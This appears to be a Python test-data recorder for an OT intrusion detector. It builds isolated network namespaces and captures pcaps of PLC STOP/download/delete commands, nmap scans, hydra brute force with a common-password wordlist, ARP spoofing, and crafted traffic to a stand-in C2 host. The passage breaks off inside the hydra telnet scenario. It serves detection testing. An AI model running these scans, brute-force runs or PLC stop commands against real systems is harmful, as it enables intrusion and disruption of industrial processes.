#!/usr/bin/env python3
"""Records otwatch's attack and risky-operation captures (tests/data/attacks/*.pcap) between real
protocol peers in Linux network namespaces.

Usage (as root):  python3 tests/peers/record/record.py [--out tests/data/attacks] [SCENARIO...]
No SCENARIO records them all; --list names them.

Needs: iproute2, tcpdump, ethtool, nmap, hydra, busybox-static (telnetd), openssh-server,
openssh-client, sshpass, iputils-ping, python3 with pymodbus 3.16.1, python-snap7 3.3.0, c104 2.2.1,
asyncua 2.1.0, pyads 3.6.0, pymcprotocol 0.3.0, virtual-plc 0.3.0, scapy, pyftpdlib, bacpypes3
(apt-get install nmap hydra busybox-static openssh-server sshpass ethtool iputils-ping tcpdump; pip install -r
tests/peers/requirements.txt scapy pyftpdlib bacpypes3).

Safety: every address is in 10.77.0.0/16 and lives in a namespace named otwrec-* made here (stale ones
are deleted first). The root namespace gets `ip route add blackhole 10.77.0.0/16` for the run, no
namespace has a default route, and IPv6 is off in every namespace. Scenarios that need internet
addresses never touch the network: scapy writes their packets straight to the pcap ("crafted").
Everything is torn down at the end, also on error: processes (by pid), namespaces, the blackhole
route, the temporary user otwrec_op (telnet/ssh scenarios) and /run/sshd if this script made it.

Fixed layout (MACs are 02:4d:00:00:<3rd octet>:<4th octet> unless a scenario says otherwise):
  OT cell 10.77.1.0/24 on one bridge, captured on the bridge (like a SPAN port):
    10.77.1.10 engineering workstation (EWS), 10.77.1.20 PLC/outstation/server,
    10.77.1.30 HMI / SCADA master, 10.77.1.66 rogue client / attacker.

Scenarios and the otwatch alert kind (docs/DETECTION.md) each should (or should not) raise:
  s7_stop                S7 EWS->PLC: db_read, PLC STOP (function 0x29)           -> plc_stop
  s7_start               S7 hot start + cold start (PLC control 0x28 "P_PROGRAM")  -> plc_start
  s7_download            S7 download of DB2 (0x1a/0x1b/0x1c, a block uploaded from the server
                         before the capture), nothing else                       -> plc_program_download
  s7_upload              S7 full_upload + upload of DB1 (0x1d/0x1e/0x1f)          -> plc_program_upload
  s7_delete              S7 PI service _DELE of DB2 (Snap7 C-client layout)       -> plc_program_delete
  s7_set_clock           S7 userdata time functions: read clock, set clock        -> plc_config_change (clock)
  s7_password            S7 userdata security: set/clear session password         -> plc_config_change (security)
  s7_benign_reads        HMI 10.77.1.30 db_read every 100 ms for 20 s             -> none (must not alert)
  modbus_restart         Modbus FC8 sub-function 1 restart communications option  -> device_restart
  modbus_listen_only     Modbus FC8 sub-function 4 force listen only mode         -> plc_config_change
  modbus_benign          HMI: FC3 read + FC6 setpoint every 1 s for 60 s          -> none (baseline for policy learn)
  modbus_new_writer      HMI as above for 14 s; at 10 s new client 10.77.1.66 FC15 + FC16
                         -> unauthorized_write (with a policy learned from modbus_benign)
  modbus_malformed       10.77.1.66 raw-socket malformed Modbus/TCP frames         -> protocol_violation
  iec104_reset_process   C_RP_NA_1 (type 105, QRP 1) EWS->outstation              -> device_restart
  iec104_clock_sync      master 10.77.1.30 C_CS_NA_1 every 4 s                    -> none (routine)
  iec104_clock_sync_rogue   the same, plus one C_CS_NA_1 from 10.77.1.66          -> plc_config_change (clock)
  opcua_method_firmware  OPC UA Browse + Call of UpdateFirmware / DownloadProgram  -> firmware_update
  opcua_benign           OPC UA Read + subscription (Publish) only                -> none
  profinet_dcp_set       DCP Identify, Set IP, Set NameOfStation, Reset to Factory (5/6 and 5/5)
                         -> plc_config_change, device_restart
  bacnet_reinit_dcc      BACnet ReinitializeDevice(coldstart), DCC(disable), AtomicWriteFile
                         -> device_restart, plc_config_change, plc_program_download
  ads_ops                ADS EWS->PLC (pyads, AdsTestServer): device info, state, read, write,
                         ReadWrite, notification, WriteControl STOP and RUN      -> plc_stop, plc_start
  slmp_ops               SLMP/MC EWS->PLC (pymcprotocol, virtual-plc) on 5007: CPU model, device reads and
                         writes, remote STOP/RUN/PAUSE/RESET, latch clear; 3E binary and ASCII, 4E
                         -> plc_stop, plc_start, device_restart
  srtp_ops               GE-SRTP EWS->PLC (tests/peers/srtp_peer.py, both ends written from GFK-0529) on
                         18245: controller type and ID, reads, a refused STOP, privilege change with a
                         password, writes, STOP, program load and store, set clock, RUN
                         -> plc_stop, plc_start, plc_program_upload, plc_program_download,
                            cleartext_credentials, plc_config_change (security, clock)
  nmap_syn_scan          nmap -sS -p 1-1024 -T4 10.77.2.66 -> 10.77.2.20          -> scan_detected
  nmap_sweep             nmap -sn 10.77.3.0/24 + -sS 5 ICS ports 10.77.3.1-40 through a router
                         (captured on the attacker<->router link)                 -> scan_detected
  nmap_ics_scripts       nmap -sT modbus-discover,s7-info,enip-info vs 3 servers  -> scan_detected
  arp_sweep              nmap -sn on the local /24 (ARP requests)                 -> scan_detected
  hydra_telnet           hydra -t 4, 30 passwords vs BusyBox telnetd + login      -> brute_force (telnet)
  hydra_ftp              hydra -t 4, 30 passwords (last right) vs pyftpdlib       -> brute_force (ftp)
  ftp_login_ok           one FTP login (operator), LIST, RETR                     -> cleartext_credentials, no brute_force
  telnet_login_ok        one telnet login, `id; uname -s`                          -> cleartext_credentials, no brute_force
  ssh_to_plc             ssh EWS->PLC while the HMI polls Modbus on it            -> remote_access_session
  hydra_ssh              hydra -t 4, 20 passwords (last right) vs sshd            -> brute_force (ssh)
  arp_spoof              host pings gateway; 02:00:00:00:05:66 claims 10.77.5.1 every 200 ms -> arp_spoofing
  arp_gratuitous_storm   500 gratuitous ARPs from one MAC in ~3 s                 -> arp_spoofing (storm)
  ip_conflict            two MACs both answer for and use 10.77.5.30             -> ip_conflict
  internet_from_plc      crafted: Modbus server 10.77.1.20 opens TLS (SNI update.example.com) to
                         93.184.216.34:443 and HTTP (Host evil-c2.example.net) to 203.0.113.66:80
                         -> internet_connection
  ioc_dns                crafted: 10.77.1.30 resolves evil-c2.example.net -> 203.0.113.66, connects :8080
                         -> ioc_match (domain + IP)
"""
import argparse
import contextlib
import os
import select
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import traceback

HERE = os.path.dirname(os.path.abspath(__file__))
PEERS = os.path.join(HERE, "peers.py")
PREFIX = "otwrec-"
LAB_NET = "10.77.0.0/16"
USER = "otwrec_op"
USER_PASSWORD = "Plant#2024"
FTP_USER = "operator"
FTP_PASSWORD = "Plant#2024"

# 29 wrong passwords; the 30th (USER_PASSWORD) is right.
WORDS = [
    "123456", "password", "admin", "12345678", "qwerty", "letmein", "welcome", "operator",
    "siemens", "scada", "plc123", "changeme", "root", "default", "manager", "supervisor",
    "engineer", "control", "factory", "service", "hmi2020", "abc123", "passw0rd", "iloveyou",
    "monkey", "dragon", "111111", "trustno1", "Summer2024",
]
WORDLIST_30 = WORDS + [USER_PASSWORD]
WORDLIST_20 = WORDS[:19] + [USER_PASSWORD]

OT = {"ews": "10.77.1.10", "plc": "10.77.1.20", "hmi": "10.77.1.30", "rogue": "10.77.1.66"}


def mac_for(ip: str) -> str:
    o = [int(x) for x in ip.split(".")]
    return f"02:4d:00:00:{o[2]:02x}:{o[3]:02x}"


def log(msg: str) -> None:
    print(f"[record] {msg}", flush=True)


def sh(*argv: str, check: bool = True, capture: bool = False, timeout: float = 60):
    r = subprocess.run(list(argv), stdout=subprocess.PIPE if capture else subprocess.DEVNULL,
                       stderr=subprocess.PIPE, text=True, timeout=timeout)
    if check and r.returncode != 0:
        raise RuntimeError(f"{' '.join(argv)}: exit {r.returncode}: {r.stderr.strip()}")
    return r


def our_namespaces() -> list:
    out = sh("ip", "netns", "list", capture=True).stdout
    return [line.split()[0] for line in out.splitlines() if line.startswith(PREFIX)]


def delete_namespace(ns: str) -> None:
    pids = sh("ip", "netns", "pids", ns, check=False, capture=True).stdout.split()
    for pid in pids:  # only processes inside our own otwrec-* namespace
        with contextlib.suppress(ProcessLookupError, ValueError):
            os.kill(int(pid), signal.SIGKILL)
    if pids:
        time.sleep(0.2)
    sh("ip", "netns", "del", ns, check=False)


class Lab:
    """Namespaces, links and processes of one scenario; close() removes all of them."""

    def __init__(self, tmp: str):
        self.tmp = tmp
        self.namespaces = []
        self.procs = []

    # -- topology
    def ns(self, short: str) -> str:
        name = PREFIX + short
        sh("ip", "netns", "add", name)
        self.namespaces.append(name)
        self.x(name, "sysctl", "-qw", "net.ipv6.conf.all.disable_ipv6=1", "net.ipv6.conf.default.disable_ipv6=1")
        self.x(name, "ip", "link", "set", "lo", "up")
        return name

    def x(self, ns: str, *argv: str, check: bool = True, timeout: float = 60):
        return sh("ip", "netns", "exec", ns, *argv, check=check, timeout=timeout)

    def _quiet_link(self, ns: str, ifname: str) -> None:
        # whole, checksummed frames in the capture: no TSO/GSO/GRO, software checksums
        self.x(ns, "ethtool", "-K", ifname, "tx", "off", "rx", "off", "tso", "off", "gso", "off", "gro", "off",
               check=False)

    def _addr(self, ns: str, ifname: str, cidr, mac) -> None:
        if mac:
            self.x(ns, "ip", "link", "set", "dev", ifname, "address", mac)
        self._quiet_link(ns, ifname)
        if cidr:
            self.x(ns, "ip", "addr", "add", cidr, "dev", ifname)
        self.x(ns, "ip", "link", "set", "dev", ifname, "up")

    def switch(self, short: str = "sw") -> str:
        sw = self.ns(short)
        self.x(sw, "ip", "link", "add", "br0", "type", "bridge", "mcast_snooping", "0", "stp_state", "0")
        self.x(sw, "ip", "link", "set", "br0", "up")
        return sw

    def plug(self, host_short: str, sw: str, cidr=None, mac=None) -> str:
        """A new namespace `host_short` whose eth0 is a port of the bridge in `sw`."""
        host = self.ns(host_short)
        port = ("p-" + host_short)[:15]
        sh("ip", "-n", host, "link", "add", "eth0", "type", "veth", "peer", "name", port, "netns", sw)
        if cidr and not mac:
            mac = mac_for(cidr.split("/")[0])
        self._addr(host, "eth0", cidr, mac)
        self._quiet_link(sw, port)
        self.x(sw, "ip", "link", "set", port, "master", "br0", "up")
        return host

    def wire(self, a: str, a_if: str, a_cidr, a_mac, b: str, b_if: str, b_cidr, b_mac) -> None:
        """A veth pair between two existing namespaces."""
        sh("ip", "-n", a, "link", "add", a_if, "type", "veth", "peer", "name", b_if, "netns", b)
        self._addr(a, a_if, a_cidr, a_mac or (mac_for(a_cidr.split("/")[0]) if a_cidr else None))
        self._addr(b, b_if, b_cidr, b_mac or (mac_for(b_cidr.split("/")[0]) if b_cidr else None))

    def ot_cell(self, *hosts: str):
        """The OT cell 10.77.1.0/24: a bridge and the named hosts of OT."""
        sw = self.switch()
        return sw, {h: self.plug(h, sw, OT[h] + "/24") for h in hosts}

    # -- processes
    def bg(self, ns: str, *argv: str, name: str = "proc") -> subprocess.Popen:
        logf = open(os.path.join(self.tmp, f"{name}.{len(self.procs)}.log"), "w")
        p = subprocess.Popen(["ip", "netns", "exec", ns, *argv], stdout=logf, stderr=subprocess.STDOUT,
                             stdin=subprocess.DEVNULL, start_new_session=True, cwd=self.tmp)
        p.otw_log = logf.name
        self.procs.append(p)
        return p

    def peer_bg(self, ns: str, *args: str) -> subprocess.Popen:
        return self.bg(ns, sys.executable, PEERS, *args, name=args[0])

    def run(self, ns: str, *argv: str, timeout: float = 90, check: bool = True) -> str:
        r = subprocess.run(["ip", "netns", "exec", ns, *argv], stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                           stdin=subprocess.DEVNULL, text=True, timeout=timeout, cwd=self.tmp)
        with open(os.path.join(self.tmp, "run.log"), "a") as f:
            f.write(f"$ {' '.join(argv)}\n{r.stdout}\n[exit {r.returncode}]\n")
        if check and r.returncode != 0:
            raise RuntimeError(f"{' '.join(argv)} in {ns}: exit {r.returncode}\n{r.stdout[-3000:]}")
        return r.stdout

    def peer(self, ns: str, *args: str, timeout: float = 90) -> str:
        return self.run(ns, sys.executable, PEERS, *args, timeout=timeout)

    def wait_done(self, p: subprocess.Popen, timeout: float) -> None:
        try:
            p.wait(timeout)
        except subprocess.TimeoutExpired:
            raise RuntimeError(f"{p.args} still running after {timeout} s")
        if p.returncode != 0:
            with open(p.otw_log) as f:
                raise RuntimeError(f"{p.args}: exit {p.returncode}\n{f.read()[-3000:]}")

    def wait_listen(self, ns: str, port: int, udp: bool = False, timeout: float = 30) -> None:
        """Waits for a listening socket without sending a packet (no probe connection in the capture)."""
        deadline = time.time() + timeout
        while time.time() < deadline:
            out = sh("ip", "netns", "exec", ns, "ss", "-Hnlu" if udp else "-Hnlt", f"sport = :{port}",
                     capture=True).stdout
            if out.strip():
                return
            for p in self.procs:
                if p.poll() is not None and p.returncode not in (0, None):
                    with open(p.otw_log) as f:
                        raise RuntimeError(f"{p.args} died: {f.read()[-2000:]}")
            time.sleep(0.1)
        raise RuntimeError(f"nothing listens on {'udp' if udp else 'tcp'} {port} in {ns}")

    @contextlib.contextmanager
    def capture(self, ns: str, ifname: str, path: str, settle: float = 1.0):
        p = subprocess.Popen(["ip", "netns", "exec", ns, "tcpdump", "-i", ifname, "-n", "-s", "0", "--immediate-mode",
                              "-U", "-Z", "root", "-w", path], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
                             start_new_session=True)
        self.procs.append(p)
        p.otw_log = os.devnull
        deadline = time.time() + 10
        buf = b""
        while b"listening on" not in buf:
            if time.time() > deadline or p.poll() is not None:
                raise RuntimeError(f"tcpdump did not start: {buf.decode(errors='replace')}")
            r, _, _ = select.select([p.stderr], [], [], 0.5)
            if r:
                buf += os.read(p.stderr.fileno(), 4096)
        time.sleep(0.3)
        try:
            yield
        finally:
            time.sleep(settle)
            with contextlib.suppress(ProcessLookupError):
                p.send_signal(signal.SIGINT)
            try:
                p.wait(10)
            except subprocess.TimeoutExpired:
                p.kill()
                p.wait()
            rest = p.stderr.read().decode(errors="replace")
            p.stderr.close()
            log("  tcpdump: " + " / ".join(line for line in rest.splitlines() if "packets" in line))

    def close(self) -> None:
        for p in reversed(self.procs):
            if p.poll() is None:
                with contextlib.suppress(ProcessLookupError):
                    os.killpg(p.pid, signal.SIGTERM)
        for p in reversed(self.procs):
            try:
                p.wait(5)
            except subprocess.TimeoutExpired:
                with contextlib.suppress(ProcessLookupError):
                    os.killpg(p.pid, signal.SIGKILL)
                p.wait()
        for ns in reversed(self.namespaces):
            delete_namespace(ns)
        self.namespaces.clear()
        self.procs.clear()


# ---------------------------------------------------------------- helpers for services


@contextlib.contextmanager
def temp_user():
    """A local user for telnet/ssh logins, removed afterwards."""
    sh("userdel", USER, check=False)
    sh("useradd", "-M", "-d", "/nonexistent", "-s", "/bin/sh", USER)
    try:
        r = subprocess.run(["chpasswd"], input=f"{USER}:{USER_PASSWORD}\n", text=True, capture_output=True)
        if r.returncode != 0:
            raise RuntimeError(f"chpasswd: {r.stderr}")
        yield
    finally:
        sh("userdel", USER, check=False)


def write_words(lab: Lab, words: list, name: str) -> str:
    path = os.path.join(lab.tmp, name)
    with open(path, "w") as f:
        f.write("\n".join(words) + "\n")
    return path


def start_telnetd(lab: Lab, ns: str) -> None:
    """BusyBox telnetd (busybox-static) with Debian's /bin/login, in its own UTS namespace so the
    banner shows the host name otw-plc-1. (inetutils telnetd under inetd stalls hydra's telnet
    module for minutes in option negotiation, so it is not used.)"""
    lab.bg(ns, "unshare", "--uts", "sh", "-c",
           "hostname otw-plc-1 && exec busybox telnetd -F -p 23 -l /bin/login", name="telnetd")
    lab.wait_listen(ns, 23)


_made_run_sshd = []


def start_sshd(lab: Lab, ns: str, addr: str) -> None:
    if not os.path.isdir("/run/sshd"):
        os.makedirs("/run/sshd", mode=0o755)
        _made_run_sshd.append("/run/sshd")
    key = os.path.join(lab.tmp, "ssh_host_ed25519_key")
    if not os.path.exists(key):
        sh("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key)
    conf = os.path.join(lab.tmp, "sshd_config")
    with open(conf, "w") as f:
        f.write(f"""ListenAddress {addr}
Port 22
HostKey {key}
PidFile {lab.tmp}/sshd.pid
UsePAM no
PasswordAuthentication yes
KbdInteractiveAuthentication no
PubkeyAuthentication no
PermitRootLogin no
AllowUsers {USER}
StrictModes no
PrintMotd no
PrintLastLog no
MaxStartups 30:30:60
MaxAuthTries 6
""")
    lab.bg(ns, "/usr/sbin/sshd", "-D", "-e", "-f", conf, name="sshd")
    lab.wait_listen(ns, 22)


# ---------------------------------------------------------------- scenarios: S7comm

def _s7(lab: Lab, out: str, op: str, *arg: str, client: str = "ews") -> None:
    sw, h = lab.ot_cell(client, "plc")
    lab.peer_bg(h["plc"], "s7-server", OT["plc"])
    lab.wait_listen(h["plc"], 102)
    with lab.capture(sw, "br0", out):
        lab.peer(h[client], "s7-client", OT["plc"], op, *arg)


def s7_stop(lab, out):
    """EWS 10.77.1.10 -> PLC 10.77.1.20: connect, db_read(DB1), PLC STOP. Alert: plc_stop."""
    _s7(lab, out, "stop")


def s7_start(lab, out):
    """EWS -> PLC: hot start (P_PROGRAM) then cold start (P_PROGRAM with "C"). Alert: plc_start."""
    _s7(lab, out, "start")


def s7_upload(lab, out):
    """EWS -> PLC: full_upload and upload of DB1 (start/upload/end upload). Alert: plc_program_upload."""
    _s7(lab, out, "upload")


def s7_download(lab, out):
    """EWS -> PLC: download of DB2 (request download, download block, download ended), the block
    being DB1 taken with full_upload before the capture started. Alert: plc_program_download."""
    sw, h = lab.ot_cell("ews", "plc")
    lab.peer_bg(h["plc"], "s7-server", OT["plc"])
    lab.wait_listen(h["plc"], 102)
    block = os.path.join(lab.tmp, "db1.mc7")
    lab.peer(h["ews"], "s7-client", OT["plc"], "save-block", block)
    time.sleep(1.0)  # the upload connection is closed before the capture starts
    with lab.capture(sw, "br0", out):
        lab.peer(h["ews"], "s7-client", OT["plc"], "download", block)


def s7_delete(lab, out):
    """EWS -> PLC: PI service _DELE of DB2. python-snap7 3.3.0's delete() encodes the block address
    wrongly (Wireshark: malformed), so peers.py sends the request as Snap7's C client lays it out,
    over the python-snap7 connection. Alert: plc_program_delete."""
    _s7(lab, out, "delete")


def s7_set_clock(lab, out):
    """EWS -> PLC: read clock, set clock to 2024-06-01 12:00:00. Alert: plc_config_change (clock)."""
    _s7(lab, out, "clock")


def s7_password(lab, out):
    """EWS -> PLC: set session password, db_read, clear session password. Alert: plc_config_change (security)."""
    _s7(lab, out, "password")


def s7_benign_reads(lab, out):
    """HMI 10.77.1.30 -> PLC: db_read(DB1, 0, 16) every 100 ms for 20 s. Must not alert."""
    _s7(lab, out, "poll", "20", client="hmi")


# ---------------------------------------------------------------- scenarios: Modbus

def _modbus_cell(lab: Lab, *hosts: str):
    sw, h = lab.ot_cell("plc", *hosts)
    lab.peer_bg(h["plc"], "modbus-server", OT["plc"])
    lab.wait_listen(h["plc"], 502)
    return sw, h


def modbus_restart(lab, out):
    """EWS -> PLC: FC3 read, then FC8 sub-function 1 (restart communications option). Alert: device_restart."""
    sw, h = _modbus_cell(lab, "ews")
    with lab.capture(sw, "br0", out):
        lab.peer(h["ews"], "modbus-diag", OT["plc"], "restart")


def modbus_listen_only(lab, out):
    """EWS -> PLC: FC3 read, then FC8 sub-function 4 (force listen only mode). Alert: plc_config_change."""
    sw, h = _modbus_cell(lab, "ews")
    with lab.capture(sw, "br0", out):
        lab.peer(h["ews"], "modbus-diag", OT["plc"], "listen")


def modbus_benign(lab, out):
    """HMI 10.77.1.30 -> PLC: FC3 read 10 registers + FC6 write register 5 = 1200, every 1 s for 60 s.
    Must not alert; the baseline to learn for modbus_new_writer."""
    sw, h = _modbus_cell(lab, "hmi")
    with lab.capture(sw, "br0", out):
        lab.peer(h["hmi"], "modbus-poll", OT["plc"], "60", timeout=120)


def modbus_new_writer(lab, out):
    """HMI polls as in modbus_benign for 14 s; at 10 s the new client 10.77.1.66 writes 8 coils (FC15)
    and 4 registers (FC16). Alert (with a policy learned from modbus_benign): unauthorized_write."""
    sw, h = _modbus_cell(lab, "hmi", "rogue")
    with lab.capture(sw, "br0", out):
        hmi = lab.peer_bg(h["hmi"], "modbus-poll", OT["plc"], "14")
        time.sleep(10)
        lab.peer(h["rogue"], "modbus-writer", OT["plc"])
        lab.wait_done(hmi, 30)


def modbus_malformed(lab, out):
    """10.77.1.66 -> PLC: one TCP connection per malformed frame (MBAP length too long / too short,
    protocol id 0x1234, unassigned function 0x5B + garbage, length 0, length 1). Alert: protocol_violation."""
    sw, h = _modbus_cell(lab, "rogue")
    with lab.capture(sw, "br0", out):
        lab.peer(h["rogue"], "modbus-malformed", OT["plc"])


# ---------------------------------------------------------------- scenarios: IEC 104

def _iec104_cell(lab: Lab, *hosts: str):
    sw, h = lab.ot_cell("plc", *hosts)
    lab.peer_bg(h["plc"], "iec104-server", OT["plc"])
    lab.wait_listen(h["plc"], 2404)
    return sw, h


def iec104_reset_process(lab, out):
    """EWS -> outstation 10.77.1.20 (CA 47): STARTDT, C_RP_NA_1 QRP 1, STOPDT. Alert: device_restart."""
    sw, h = _iec104_cell(lab, "ews")
    with lab.capture(sw, "br0", out):
        lab.peer(h["ews"], "iec104-reset", OT["plc"])


def iec104_clock_sync(lab, out):
    """Master 10.77.1.30: start-up (GI + clock sync) then C_CS_NA_1 every 4 s for 20 s. Must not alert."""
    sw, h = _iec104_cell(lab, "hmi")
    with lab.capture(sw, "br0", out):
        lab.peer(h["hmi"], "iec104-master", OT["plc"], "20", "4")


def iec104_clock_sync_rogue(lab, out):
    """As iec104_clock_sync, plus at 10 s a second client 10.77.1.66 sends one C_CS_NA_1.
    Alert: plc_config_change (clock set by a second client)."""
    sw, h = _iec104_cell(lab, "hmi", "rogue")
    with lab.capture(sw, "br0", out):
        master = lab.peer_bg(h["hmi"], "iec104-master", OT["plc"], "20", "4")
        time.sleep(10)
        lab.peer(h["rogue"], "iec104-sync-once", OT["plc"])
        lab.wait_done(master, 30)


# ---------------------------------------------------------------- scenarios: OPC UA, PROFINET, BACnet

def _opcua(lab: Lab, out: str, client: str, what: str) -> None:
    sw, h = lab.ot_cell(client, "plc")
    lab.peer_bg(h["plc"], "opcua-server", OT["plc"])
    lab.wait_listen(h["plc"], 4840)
    with lab.capture(sw, "br0", out):
        lab.peer(h[client], "opcua-client", OT["plc"], what)


def opcua_method_firmware(lab, out):
    """EWS -> OPC UA server 10.77.1.20:4840: browse Controller, Call UpdateFirmware(url) and
    DownloadProgram(bytes) (NodeIds ns=2;s=Controller.UpdateFirmware / .DownloadProgram).
    Alert: firmware_update / plc_program_download."""
    _opcua(lab, out, "ews", "methods")


def opcua_benign(lab, out):
    """HMI -> OPC UA server: Read of two variables, a 500 ms subscription for 5 s. Must not alert."""
    _opcua(lab, out, "hmi", "benign")


def profinet_dcp_set(lab, out):
    """Controller 00:0e:8c:00:00:10 -> device 00:0e:8c:00:00:20 on one veth (no IP): DCP Identify
    (multicast), Set IP, Set NameOfStation, Set Control Reset-to-Factory (5/6) and Reset Factory
    Settings (5/5); the device (scapy responder) answers Identify and each Set.
    Crafted frames (no PROFINET stack exists as a package). Alerts: plc_config_change, device_restart."""
    ctl = lab.ns("pnctl")
    dev = lab.ns("pndev")
    lab.wire(ctl, "eth0", None, "00:0e:8c:00:00:10", dev, "eth0", None, "00:0e:8c:00:00:20")
    lab.peer_bg(dev, "dcp-responder", "eth0", "00:0e:8c:00:00:20")
    time.sleep(3)  # scapy's sniffer needs a moment to open its socket
    with lab.capture(ctl, "eth0", out):
        lab.peer(ctl, "dcp-controller", "eth0", "00:0e:8c:00:00:10", "00:0e:8c:00:00:20")


def bacnet_reinit_dcc(lab, out):
    """bacpypes3 EWS 10.77.1.10 (device 999) -> bacpypes3 device 1020 at 10.77.1.20: Who-Is,
    ReadProperty, ReinitializeDevice(coldstart), DeviceCommunicationControl(disable, 5 min),
    AtomicWriteFile (stream). Alerts: device_restart, plc_config_change, plc_program_download."""
    sw, h = lab.ot_cell("ews", "plc")
    lab.peer_bg(h["plc"], "bacnet-server", OT["plc"] + "/24")
    lab.wait_listen(h["plc"], 47808, udp=True)
    with lab.capture(sw, "br0", out):
        lab.peer(h["ews"], "bacnet-client", OT["ews"] + "/24", OT["plc"])


# ---------------------------------------------------------------- scenarios: scans

def ads_ops(lab, out):
    """EWS 10.77.1.10 (AMS Net ID 10.77.1.10.1.1) -> PLC 10.77.1.20 (pyads' AdsTestServer on
    48898): ReadDeviceInfo, ReadState, Read, Write, ReadWrite, AddDeviceNotification,
    WriteControl STOP and RUN. Alerts: plc_stop, plc_start."""
    sw, h = lab.ot_cell("ews", "plc")
    lab.peer_bg(h["plc"], "ads-server", OT["plc"])
    lab.wait_listen(h["plc"], 48898)
    with lab.capture(sw, "br0", out):
        lab.peer(h["ews"], "ads-client", OT["plc"])


def slmp_ops(lab, out):
    """EWS 10.77.1.10 -> PLC 10.77.1.20 (virtual-plc's MC protocol server, Q profile, on 5007):
    pymcprotocol in 3E binary (CPU model, batch and random reads and writes, remote STOP, latch
    clear, RUN, PAUSE, STOP, RESET), then 3E ASCII and 4E binary (CPU model, read, write).
    Alerts: plc_stop, plc_start, device_restart."""
    sw, h = lab.ot_cell("ews", "plc")
    lab.peer_bg(h["plc"], "slmp-server", OT["plc"])
    lab.wait_listen(h["plc"], 5007)
    with lab.capture(sw, "br0", out):
        lab.peer(h["ews"], "slmp-client", OT["plc"])


def srtp_ops(lab, out):
    """EWS 10.77.1.10 -> PLC 10.77.1.20 (a Series 90-30 simulator on 18245): the srtp_peer.py
    client's engineering session. Alerts: plc_stop, plc_start, plc_program_upload,
    plc_program_download, cleartext_credentials, plc_config_change."""
    sw, h = lab.ot_cell("ews", "plc")
    lab.peer_bg(h["plc"], "srtp-server", OT["plc"])
    lab.wait_listen(h["plc"], 18245)
    with lab.capture(sw, "br0", out):
        lab.peer(h["ews"], "srtp-client", OT["plc"])


def nmap_syn_scan(lab, out):
    """Attacker 10.77.2.66 -> 10.77.2.20 (listens on 22 and 502): nmap -sS -p 1-1024 -T4 -n.
    Captured on the attacker's link. Alert: scan_detected."""
    att = lab.ns("att")
    tgt = lab.ns("tgt")
    lab.wire(att, "eth0", "10.77.2.66/24", None, tgt, "eth0", "10.77.2.20/24", None)
    lab.peer_bg(tgt, "tcp-listen", "10.77.2.20", "22", "502")
    lab.wait_listen(tgt, 502)
    with lab.capture(att, "eth0", out):
        lab.run(att, "nmap", "-sS", "-p", "1-1024", "-T4", "-n", "10.77.2.20")


def nmap_sweep(lab, out):
    """Attacker 10.77.30.66 -- router (10.77.30.1 | 10.77.3.254) -- bridge with 10.77.3.10 (502),
    .11 (102), .12 (2404, 20000): nmap -sn -n 10.77.3.0/24, then
    nmap -sS -p 502,102,44818,20000,2404 -n 10.77.3.1-40. Captured on the attacker<->router link.
    Alert: scan_detected."""
    att = lab.ns("att")
    rtr = lab.ns("rtr")
    lab.wire(att, "eth0", "10.77.30.66/24", None, rtr, "eth0", "10.77.30.1/24", None)
    sw = lab.switch()
    lab._quiet_link(sw, "br0")
    sh("ip", "-n", rtr, "link", "add", "eth1", "type", "veth", "peer", "name", "p-rtr", "netns", sw)
    lab._addr(rtr, "eth1", "10.77.3.254/24", mac_for("10.77.3.254"))
    lab.x(sw, "ip", "link", "set", "p-rtr", "master", "br0", "up")
    lab.x(rtr, "sysctl", "-qw", "net.ipv4.ip_forward=1")
    lab.x(att, "ip", "route", "add", "10.77.3.0/24", "via", "10.77.30.1")
    ports = {"10.77.3.10": ["502"], "10.77.3.11": ["102"], "10.77.3.12": ["2404", "20000"]}
    for i, (ip, pl) in enumerate(ports.items()):
        t = lab.plug(f"t{i}", sw, ip + "/24")
        lab.x(t, "ip", "route", "add", "10.77.30.0/24", "via", "10.77.3.254")
        lab.peer_bg(t, "tcp-listen", ip, *pl)
        lab.wait_listen(t, int(pl[0]))
    with lab.capture(att, "eth0", out):
        lab.run(att, "nmap", "-sn", "-n", "10.77.3.0/24", timeout=120)
        lab.run(att, "nmap", "-sS", "-p", "502,102,44818,20000,2404", "-n", "10.77.3.1-40", timeout=120)


def nmap_ics_scripts(lab, out):
    """Attacker 10.77.2.66 -> 10.77.2.21 (pymodbus), .22 (snap7), .23 (pymodbus + snap7):
    nmap -sT -p 502,102,44818 --script modbus-discover,s7-info,enip-info -n. Alert: scan_detected.
    modbus-discover succeeds (FC17, FC43); s7-info's SZL 0x0011 read gets python-snap7's answer,
    which nmap (and Wireshark) cannot parse, so nmap waits 30 s, reads SZL 0x001C and reports a
    script error; 44818 is closed (no EtherNet/IP server), so enip-info sends nothing."""
    sw = lab.switch()
    att = lab.plug("att", sw, "10.77.2.66/24")
    targets = {"10.77.2.21": ["modbus"], "10.77.2.22": ["s7"], "10.77.2.23": ["modbus", "s7"]}
    for i, (ip, kinds) in enumerate(targets.items()):
        t = lab.plug(f"t{i}", sw, ip + "/24")
        for k in kinds:
            lab.peer_bg(t, f"{k}-server", ip)
            lab.wait_listen(t, 502 if k == "modbus" else 102)
    with lab.capture(sw, "br0", out):
        lab.run(att, "nmap", "-sT", "-p", "502,102,44818", "--script", "modbus-discover,s7-info,enip-info", "-n",
                "10.77.2.21-23", timeout=120)


def arp_sweep(lab, out):
    """Attacker 10.77.4.66 on the bridge with 10.77.4.10/.11/.12: nmap -sn -n 10.77.4.0/24 (ARP).
    Alert: scan_detected."""
    sw = lab.switch()
    att = lab.plug("att", sw, "10.77.4.66/24")
    for i, ip in enumerate(["10.77.4.10", "10.77.4.11", "10.77.4.12"]):
        lab.plug(f"h{i}", sw, ip + "/24")
    with lab.capture(sw, "br0", out):
        lab.run(att, "nmap", "-sn", "-n", "10.77.4.0/24", timeout=120)


# ---------------------------------------------------------------- scenarios: logins

def hydra_telnet(lab, out):
    """Attacker 10.77.1.66 -> BusyBox telnetd + /bin/login on 10.77.1.20: hydra -t 4, user otwrec_op,
    30 passwords (the last one right). Alert: brute_force (telnet).
    Hydra 9.4's telnet module only sends a clean user/password pair as the first try of each
    connection; later tries on the same connection send "\r" as user and "twrec_op" as password
    (see hydra-telnet.c), so the right password never reaches the server: 30 "Login incorrect"
    on 8 connections, no success (the brief's "none right" case)."""
    sw, h = lab.ot_cell("plc", "rogue")
